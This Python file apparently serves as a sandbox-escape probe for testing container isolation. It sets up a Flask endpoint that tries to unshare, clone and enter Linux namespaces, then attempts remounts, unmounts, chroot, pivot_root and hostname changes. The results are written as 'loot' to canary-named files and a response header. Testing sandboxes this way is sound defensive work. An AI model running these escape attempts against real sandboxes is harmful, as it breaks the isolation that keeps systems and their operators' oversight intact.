"""Root in a world of its own."""

import contextlib
import ctypes
import os
import platform
import signal
import struct
from pathlib import Path

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
CLONE, CLONE3, UNSHARE, SETNS = (56, 435, 272, 308) if X86 else (220, 435, 97, 268)
KINDS = {0x10000000: "user", 0x20000: "mount", 0x20000000: "pid", 0x40000000: "net", 0x8000000: "ipc",
         0x4000000: "uts", 0x2000000: "cgroup", 0x80: "time"}


def inside():
    """Try to get further, as root of a new user namespace."""
    got = []
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", "0 0 1")):
        with contextlib.suppress(OSError):
            Path(f"/proc/self/{name}").write_text(text)
    for kind in (b"proc", b"tmpfs", b"sysfs"):
        if libc.mount(kind, b"/tmp", kind, 0, None) == 0:
            got.append(f"mounted {kind.decode()}")
    for place in (b"/proc", b"/tmp", b"/box", b"/dev/shm"):
        if libc.umount2(place, 2) == 0:
            got.append(f"uncovered {place.decode()}")
    if libc.chroot(b"/tmp") == 0:
        got.append("another root")
    if libc.syscall(155 if X86 else 41, b"/tmp", b"/tmp") == 0:
        got.append("pivoted")
    if libc.sethostname(b"mine", 4) == 0:
        got.append("renamed")
    return got


def attack():
    found = []
    for flag, kind in KINDS.items():
        for flags in {flag, flag | 0x10000000}:
            reader, writer = os.pipe()
            pid = os.fork()
            if pid == 0:
                if libc.unshare(flags) == 0 or libc.syscall(UNSHARE, flags) == 0:
                    os.write(writer, f"unshared {kind} {inside()};".encode())
                os._exit(0)
            os.close(writer)
            os.waitpid(pid, 0)
            found.append(os.read(reader, 4096).decode())
            os.close(reader)
            if kind == "time":
                continue  # its bit is one of the signal's in the older call
            pid = libc.syscall(CLONE, flags | signal.SIGCHLD, 0, 0, 0, 0)
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                found.append(f"cloned {kind}")
            arguments = struct.pack("=8Q", flags, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
            pid = libc.syscall(CLONE3, arguments, len(arguments))
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                found.append(f"cloned {kind} with clone3")
    for path in ("/proc/1/ns/mnt", "/proc/self/ns/user", "/proc/1/ns/net"):
        with contextlib.suppress(OSError):
            if libc.setns(os.open(path, os.O_RDONLY), 0) == 0:
                found.append(f"entered {path}")
    return [*filter(None, found), *inside()]


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
